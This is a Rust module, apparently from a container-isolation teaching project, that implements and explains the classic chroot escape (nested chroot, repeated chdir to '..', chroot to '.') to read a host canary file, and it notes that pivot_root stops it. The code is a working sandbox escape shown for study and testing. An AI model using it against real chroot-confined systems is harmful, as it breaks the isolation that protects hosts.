//! Out of a chroot by a second chroot.
//!
//! chroot(2) changes the root directory and leaves the working directory alone. Who calls it with a directory
//! below stands outside the new root: `..` goes up and up, because the kernel stops it at the root directory
//! only, and that is not on the way any more. At the top, a last chroot makes that the root. The way is as
//! old as the call; chroot(2) itself describes it ("This call does not change the current working directory
//! ..."), and mkdir, chroot and chdir are all that it takes. It needs the right to call chroot, which root
//! has, and an ordinary user in a user namespace too.
//!
//! Chapter 3 stops it. After pivot_root(2) and umount2(2) the host's tree is not mounted in the container's
//! mount namespace: `..` ends at the top of the container's own tree.

use nix::unistd::{chdir, chroot};

use crate::arena::{self, Arena};
use crate::inside::{At, Inside, Stopped};
use crate::{Attack, End};

pub const ATTACK: Attack = Attack {
    name: "chroot",
    title: "a second chroot, and .. past the first",
    won: "read a host file through ..",
    harmless: "",
    end: End::Chapter(3),
    because: "after pivot_root(2) the host's tree is not mounted any more; .. ends at the container's top",
    prepare: arena::nothing,
    attack,
    judge: Arena::brought_back,
};

fn attack(me: &Inside) -> Result<String, Stopped> {
    let _ = std::fs::create_dir("/way-out");
    chroot("/way-out").at("chroot(/way-out)")?;
    for _ in 0..100 {
        chdir("..").at("chdir(..)")?;
    }
    chroot(".").at("chroot(.)")?;
    me.read_canary()
}
